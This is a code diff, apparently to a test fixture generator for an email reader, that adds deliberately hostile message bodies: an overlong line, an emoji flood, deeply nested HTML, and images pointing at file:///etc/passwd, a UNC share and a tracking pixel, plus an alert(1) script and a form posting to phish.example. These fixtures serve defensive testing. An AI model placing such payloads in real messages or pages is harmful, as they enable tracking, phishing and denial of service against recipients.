@@ -146,6 +146,35 @@ def _newsletter(said: Utterance, mark: str) -> bytes:
     return leaf("text/html", body)
 
 
+def _long_line(said: Utterance, mark: str) -> bytes:
+    """One line of 40 KB that looks like the beginning of a quote, over and over."""
+    return leaf("text/plain", said.text + "\n" + "On a " * 8000, encoding="8bit")
+
+
+def _emoji_flood(said: Utterance, mark: str) -> bytes:
+    """A megabyte of small faces."""
+    return leaf("text/plain", said.text + "\n" + "\U0001f600" * 262_144, encoding="base64")
+
+
+def _bomb(said: Utterance, mark: str) -> bytes:
+    """HTML nested far deeper than anything can draw."""
+    depth = 20_000
+    return leaf("text/html", "<div>" * depth + html.escape(said.text) + "</div>" * depth)
+
+
+def _reaching(said: Utterance, mark: str) -> bytes:
+    """Pictures that reach for the reader's disk, network share and address."""
+    sources = (
+        "file:///etc/passwd",
+        "\\\\share.example\\a.png",
+        PIXEL.format(mark=mark[:16]),
+        "//cdn.example/a",
+    )
+    pictures = "".join(f'<img src="{source}">' for source in sources)
+    script = '<script>alert(1)</script><form action="https://phish.example"><input name="a"></form>'
+    return leaf("text/html", f"{_paragraphs(said.text)}{pictures}{script}")
+
+
 ENTITIES: dict[str, Entity] = {
     "plain": _plain,
     "gmail": _gmail,
@@ -155,6 +184,10 @@ ENTITIES: dict[str, Entity] = {
     "broken_mime": _broken,
     "cid": _cid,
     "newsletter": _newsletter,
+    "long_line": _long_line,
+    "emoji_flood": _emoji_flood,
+    "html_bomb": _bomb,
+    "reaching": _reaching,
 }
 _WITH_FILES = frozenset({"cid", "broken_mime"})
 
